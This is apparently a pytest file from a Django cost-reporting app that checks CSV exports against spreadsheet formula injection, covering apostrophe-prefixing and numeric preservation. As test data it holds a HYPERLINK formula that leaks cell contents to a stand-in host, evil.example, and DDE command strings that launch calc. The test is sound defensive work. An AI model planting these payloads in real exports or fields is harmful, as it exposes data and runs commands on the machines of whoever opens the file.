"""CSV formula injection (issue 9, item 5): a cell a spreadsheet would run as a formula is
written as text, with a leading apostrophe; real numbers stay numeric.

The probe's repro: export_focus wrote `=HYPERLINK(...)` from a tag or a resource name verbatim.
"""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import call_command

from finops.core.csv_safety import csv_safe, csv_safe_cell
from finops.org.models import Team
from tests.factories import CostLineItemFactory

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (LINK, "'" + LINK),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        # Numbers are numbers: a negative amount stays negative and numeric.
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("-1e-06", "-1e-06"),
        ("-.5", "-.5"),
        # Ordinary text, and a formula character later in the cell, are left alone.
        ("gpu-node-01", "gpu-node-01"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_csv_safe(value: str, written: str) -> None:
    assert csv_safe(value) == written


def test_csv_safe_cell_leaves_non_text_alone() -> None:
    assert csv_safe_cell(Decimal("-12.50")) == Decimal("-12.50")
    assert csv_safe_cell(None) is None
    assert csv_safe_cell(-3) == -3
    assert csv_safe_cell("=1") == "'=1"


@pytest.mark.django_db
def test_export_focus_csv_neutralises_formulas_in_names_and_tags(tmp_path: Path) -> None:
    CostLineItemFactory.create(resource_name=LINK, resource_id="@evil", tags={"team": LINK})
    CostLineItemFactory.create(
        resource_name="-cmd|' /C calc'!A0", charge_category="Credit",
        billed_cost=Decimal("-12.50"), effective_cost=Decimal("-12.50"),
    )  # fmt: skip
    out = tmp_path / "focus.csv"
    call_command("export_focus", "--month", "2025-09", "--out", str(out), stdout=io.StringIO())

    rows = list(csv.DictReader(out.open(newline="", encoding="utf-8")))
    names = {row["ResourceName"] for row in rows}
    assert names == {"'" + LINK, "'-cmd|' /C calc'!A0"}
    assert {row["ResourceId"] for row in rows} >= {"'@evil"}
    # No cell starts a formula, except numbers (which stay numbers).
    for row in rows:
        for column, cell in row.items():
            if cell and cell.startswith(FORMULA_START):
                Decimal(cell)  # raises if it is not a plain number
                assert column.endswith(("Cost", "Quantity", "Price")), (column, cell)
    credit = next(row for row in rows if row["ChargeCategory"] == "Credit")
    assert Decimal(credit["EffectiveCost"]) == Decimal("-12.50")
    assert Decimal(credit["BilledCost"]) == Decimal("-12.50")
    tagged = next(row for row in rows if row["ResourceName"] == "'" + LINK)
    # Tags are a JSON object (a cell starting "{"): the tag value is kept exactly.
    assert json.loads(tagged["Tags"]) == {"team": LINK}


@pytest.mark.django_db
def test_statement_csv_neutralises_formulas_in_run_and_endpoint_names(team: Team) -> None:
    import datetime as dt

    from finops.attribution.models import Category
    from finops.chargeback import documents
    from finops.chargeback.selectors import statement_get
    from tests.factories import AllocatedCostFactory, JobRecordFactory

    # A run id from a Slurm comment and an endpoint from a pod label, both chosen by a user.
    job = JobRecordFactory.create(run_id=LINK)
    pod = JobRecordFactory.create(run_id="serve", endpoint="+cmd|' /C calc'!A0")
    day = dt.date(2025, 9, 3)
    for category, row_job, run, amount in [
        (Category.TRAINING, job, LINK, "40.25"),
        (Category.INFERENCE, pod, "serve", "9.75"),
        (Category.TAGGED, None, "", "-12.50"),
    ]:
        AllocatedCostFactory.create(
            day=day, category=category, team=team, job=row_job, run_id=run,
            amount=Decimal(amount), billing_currency="USD",
        )  # fmt: skip

    statement = statement_get(team=team, month=dt.date(2025, 9, 1))
    rows = list(csv.DictReader(io.StringIO(documents.statement_csv(statement))))

    items = {(row["section"], row["item"]) for row in rows}
    assert ("run", "'" + LINK) in items
    assert ("endpoint", "'+cmd|' /C calc'!A0") in items
    for row in rows:
        for column, cell in row.items():
            if cell and cell.startswith(FORMULA_START):
                Decimal(cell)  # only numbers may start like a formula
                assert column.endswith(("amount", "amount_exact", "hours")), (column, cell)
    # The credit stays a negative number: 40.25 + 9.75 - 12.50 = 37.50 in total.
    tagged = next(row for row in rows if (row["section"], row["item"]) == ("category", "tagged"))
    assert Decimal(tagged["amount"]) == Decimal("-12.50")
    total = next(row for row in rows if row["section"] == "total" and row["currency"] == "USD")
    assert Decimal(total["amount"]) == Decimal("37.50")
